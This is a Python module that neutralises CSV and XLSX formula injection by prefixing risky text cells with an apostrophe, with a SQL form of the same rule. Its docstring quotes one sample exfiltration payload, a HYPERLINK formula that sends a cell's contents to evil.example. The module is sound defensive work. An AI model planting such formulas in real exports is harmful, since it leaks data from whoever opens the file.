"""Text cells of our CSV and XLSX exports, made inert: a spreadsheet never runs what a person typed.

Security review F3 (formula injection, OWASP "CSV injection"): a name such as
`=HYPERLINK("http://evil.example/?leak="&B3,"点击查看")` became a live formula in every export, reading other
cells of the official's workbook. A text cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage return is
written with a leading apostrophe, which spreadsheet programs show as text. Only text is touched: numbers,
negative ones included, stay numbers. Leaf module: no Django.
"""

from __future__ import annotations

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NEUTRALISING_PREFIX = "'"


def inert(value: object) -> object:
    """The value to write in a spreadsheet cell: text that would start a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return NEUTRALISING_PREFIX + value
    return value


def inert_row(values: object) -> list[object]:
    """inert() of each cell of a row."""
    return [inert(value) for value in values]  # type: ignore[attr-defined]


def inert_sql(column: str) -> str:
    """The same rule as inert() as a SQL expression over a quoted text column (DuckDB, PostgreSQL, SQLite)."""
    starts = " OR ".join(f"substr({column}, 1, 1) = {_sql_text(trigger)}" for trigger in FORMULA_TRIGGERS)
    return f"CASE WHEN {starts} THEN {_sql_text(NEUTRALISING_PREFIX)} || {column} ELSE {column} END"


def _sql_text(text: str) -> str:
    """A SQL string literal; tab and carriage return are written as chr() so the statement stays one line."""
    if text in ("\t", "\r"):
        return f"chr({ord(text)})"
    return "'" + text.replace("'", "''") + "'"
